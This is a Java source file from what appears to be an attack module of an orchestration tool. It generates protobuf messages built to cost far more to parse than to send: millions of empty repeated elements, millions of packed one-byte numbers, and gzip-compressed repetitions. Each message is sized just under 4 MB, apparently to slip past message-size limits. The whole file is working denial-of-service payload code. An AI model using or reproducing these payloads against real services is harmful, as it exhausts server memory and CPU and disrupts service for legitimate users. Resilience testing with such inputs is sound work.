package dev.panda.orchestrator.attack;

import com.google.protobuf.CodedOutputStream;
import com.google.protobuf.WireFormat;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;

/** Messages that cost more to read than to send; those that are not packed are just below 4 MB. */
final class Messages {
  private static final int SIZE = (4 << 20) - 64;

  private Messages() {}

  /**
   * About two million empty elements of a repeated field, and their parents.
   *
   * @param fields numbers of the parents, outermost first, and of the repeated field
   */
  static byte[] emptyElements(int... fields) {
    byte[] element = field(fields[fields.length - 1], new byte[0]);
    byte[] message = new byte[SIZE / element.length * element.length];
    for (int i = 0; i < message.length; i++) {
      message[i] = element[i % element.length];
    }
    return within(message, Arrays.copyOf(fields, fields.length - 1));
  }

  /** About four million packed numbers of one byte. */
  static byte[] numbers(int... fields) {
    byte[] numbers = new byte[SIZE];
    Arrays.fill(numbers, (byte) 40);
    return within(numbers, fields);
  }

  /** Some content many times, packed. */
  static byte[] gzip(byte[] content, int times) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
      for (int i = 0; i < times; i++) {
        gzip.write(content);
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] within(byte[] content, int... fields) {
    byte[] message = content;
    for (int i = fields.length - 1; i >= 0; i--) {
      message = field(fields[i], message);
    }
    return message;
  }

  private static byte[] field(int number, byte[] content) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream(content.length + 16);
    CodedOutputStream message = CodedOutputStream.newInstance(bytes);
    try {
      message.writeTag(number, WireFormat.WIRETYPE_LENGTH_DELIMITED);
      message.writeByteArrayNoTag(content);
      message.flush();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }
}
